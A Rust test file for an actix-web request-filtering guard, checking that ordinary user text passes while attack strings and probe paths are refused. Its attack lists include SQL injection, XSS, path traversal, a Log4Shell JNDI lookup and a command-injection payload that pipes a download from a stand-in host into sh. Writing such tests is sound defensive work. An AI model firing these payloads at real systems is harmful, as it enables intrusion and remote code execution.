//! The built-in rules, through the whole guard: ordinary people are never flagged, probes and attacks are.

use actix_web::{
    App, HttpResponse,
    http::{Method, header},
    test::TestRequest,
    web,
};
use actix_web_guard::{Guard, GuardHandle};

use crate::{
    server::listen::listen,
    support::{PEER, config, get, request, send},
};

/// As a browser sends what somebody has written into a form.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b' ' => "+".to_owned(),
            byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
            byte => format!("%{byte:02X}"),
        })
        .collect()
}

/// A search page, a form, and nothing else.
macro_rules! site {
    ($config:expr) => {
        actix_web::test::init_service(
            App::new()
                .route("/search", web::get().to(HttpResponse::Ok))
                .route("/form", web::post().to(HttpResponse::Ok))
                .wrap(Guard::new($config)),
        )
        .await
    };
}

const ORDINARY: [&str; 44] = [
    "Seán O'Casey",
    "D'Artagnan & Filles",
    "Mary-Jane O''Hara",
    "Yahoo! (Y!)",
    "Western Union",
    "Drop Table Cricket Club",
    "7 Union Square",
    "Ms. Null",
    "Please select a seat from the plan",
    "walk right (3 km) and then left",
    "it isn't expensive, or is it?",
    "we ate again, having slept.",
    "AND or OR",
    "delete the old file or insert the coin",
    "update users, then set the table",
    "fish 'n' chips -- hot",
    "ben & jerry; chapter 2=3?",
    "30% off",
    "x < y and y > z",
    "CHAR(acter)",
    "union of elected committees",
    "#3 or #4",
    r"D:\Users\them\notes",
    "sleep (9 hours)",
    "1 or 2 = enough",
    "rock and roll; or jazz?",
    "5'10\" tall",
    "it's 'quoted' text",
    "(030)-1234567",
    "+49 (0)30 901820-0",
    "C++ <vector>",
    "Option<String>",
    "a <- b",
    "I <3 you",
    "Tom <tom@example.com>",
    "if (a < b && c > d) { return; }",
    "price > 100 $ | size = XL",
    "{{ mustache }}",
    "../ is the folder above",
    "see /etc/hosts",
    "Симонов, новые правила",
    "日本語の文章です。漢字とかな",
    "Ελληνικά και العربية 😀",
    "š č ć ž đ e\u{301}",
];

#[actix_web::test]
async fn what_people_write_is_served() {
    let config = config(|config| config.rate_limit(10_000).auto_ban_threshold(0));
    let app = site!(config);
    for text in ORDINARY {
        let query = format!("/search?q={}", encoded(text));
        assert_eq!(send(&app, get(&query)).await.status, 200, "{text}");
        let form = request("POST", "/form")
            .insert_header((header::CONTENT_TYPE, "application/x-www-form-urlencoded"))
            .set_payload(format!("text={}", encoded(text)));
        assert_eq!(send(&app, form).await.status, 200, "{text}");
        let referer = format!("https://example.com/search?q={}", encoded(text));
        let request = get("/search").insert_header((header::REFERER, referer));
        assert_eq!(send(&app, request).await.status, 200, "{text}");
        if let Ok(value) = header::HeaderValue::from_str(text) {
            let request = get("/search")
                .insert_header((header::COOKIE, value.clone()))
                .insert_header((header::USER_AGENT, value));
            assert_eq!(send(&app, request).await.status, 200, "{text}");
        }
    }
}

const ATTACKS: [&str; 12] = [
    "' OR '1'='1",
    "1 UNION SELECT password FROM users--",
    "1; DROP TABLE users--",
    "' AND SLEEP(5)--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://203.0.113.9/x | sh)",
    "${jndi:ldap://203.0.113.9/a}",
];

#[actix_web::test]
async fn attacks_are_refused_in_single_and_double_encoding() {
    for text in ATTACKS {
        for value in [encoded(text), encoded(&encoded(text))] {
            let config = config(|config| config.auto_ban_threshold(0));
            let handle = GuardHandle::of(&config);
            let app = site!(config);
            let query = format!("/search?a=1&q={value}");
            assert_eq!(send(&app, get(&query)).await.status, 403, "{text}: {value}");
            assert!(handle.ban_of(PEER).await.unwrap().is_some(), "{text}");
            assert_eq!(send(&app, get("/search")).await.status, 403);
        }
    }
}

#[actix_web::test]
async fn attacks_in_headers_that_are_looked_at_are_refused() {
    for (name, value) in [
        ("User-Agent", "${jndi:ldap://203.0.113.9/a}"),
        ("User-Agent", "sqlmap/1.8"),
        (
            "User-Agent",
            "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
        ),
        (
            "Referer",
            "https://example.com/?q=<script>alert(1)</script>",
        ),
    ] {
        let app = site!(config(|config| config));
        let request = get("/search").insert_header((name, value));
        assert_eq!(send(&app, request).await.status, 403, "{value}");
    }
}

/// Paths as they go over the wire: nothing tidies them.
#[actix_web::test]
async fn probes_are_found_however_they_are_spelt() {
    let config = config(|config| config.rate_limit(10_000).auto_ban_threshold(100_000));
    let server = listen(move || {
        App::new()
            .route("/", web::get().to(HttpResponse::Ok))
            .wrap(Guard::new(config.clone()))
    });
    for path in [
        "/.env",
        "/.ENV",
        "/%2eenv",
        "/%2E%65%6Ev",
        "//.env",
        "/./.env",
        "/app/.env",
        "/.env?x=1",
        "/.env/",
        "/.env.backup",
        "/x/..;/.env",
        "/.git/config",
        "/wp-login.php",
        "/wp-login%2Ephp",
        "/phpinfo.php",
        "/static/../../etc/passwd",
        "/static/..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/%252e%252e%252fetc/passwd",
        "/..%5c..%5cwindows/win.ini",
        "/%c0%ae%c0%ae/etc/passwd",
        "/?q=%27%20OR%20%271%27%3D%271",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?q=%253Cscript%253Ealert(1)%253C/script%253E",
    ] {
        let reply = server.ask(&format!("GET {path}"), &[]).await;
        assert_eq!(reply.status, 403, "{path}");
    }
    for path in [
        "/",
        "/?x=.env",
        "/environment",
        "/gitea",
        "/a.b/c",
        "/%ff",
        "/%zz",
        "/a%20b",
    ] {
        let reply = server.ask(&format!("GET {path}"), &[]).await;
        assert!(
            [200, 404].contains(&reply.status),
            "{path}: {}",
            reply.status
        );
    }
}

#[actix_web::test]
async fn a_path_that_the_application_has_is_no_probe_but_a_catch_all_is_no_path() {
    let config = || config(|config| config.auto_ban_threshold(100));
    let with = async |pattern: &'static str, path: &str| {
        let app = App::new()
            .route(pattern, web::get().to(HttpResponse::Ok))
            .wrap(Guard::new(config()));
        let app = actix_web::test::init_service(app).await;
        send(&app, get(path)).await.status.as_u16()
    };
    for (pattern, path, expected) in [
        ("/wp-login.php", "/wp-login.php", 200),
        ("/wp-admin/{tail}*", "/wp-admin/index.php", 200),
        ("/{slug}", "/wp-login.php", 403),
        ("/{tail}*", "/wp-admin/index.php", 403),
        ("/static/{file:.*}", "/static/.env", 403),
        ("/.well-known/{tail}*", "/.well-known/acme-challenge/x", 200),
        ("/{tail}*", "/.well-known/security.txt", 200),
    ] {
        assert_eq!(with(pattern, path).await, expected, "{pattern} {path}");
    }
}

#[actix_web::test]
async fn odd_bytes_are_neither_a_panic_nor_a_500() {
    let config = config(|config| config.rate_limit(10_000).auto_ban_threshold(100_000));
    let app = site!(config);
    for path in [
        "/%ff",
        "/%C0%AE",
        "/%E4%BD",
        "/%",
        "/%zz",
        "/%1",
        "/%F0%9F%92%A9",
        "/search?q=%ff",
        "/search?%ff=1",
    ] {
        let answer = send(&app, get(path)).await;
        assert!(
            [200, 400, 403, 404].contains(&answer.status.as_u16()),
            "{path}"
        );
    }
    for name in ["user-agent", "referer", "cookie", "origin"] {
        let mut request = TestRequest::with_uri("/search")
            .method(Method::GET)
            .to_request();
        for value in [&b"\xE9"[..], b"\xC2", b"\xFF\xFE"] {
            request.headers_mut().append(
                header::HeaderName::from_static(name),
                header::HeaderValue::from_bytes(value).unwrap(),
            );
        }
        let response = actix_web::test::call_service(&app, request).await;
        assert_eq!(response.status(), 200, "{name}");
    }
}
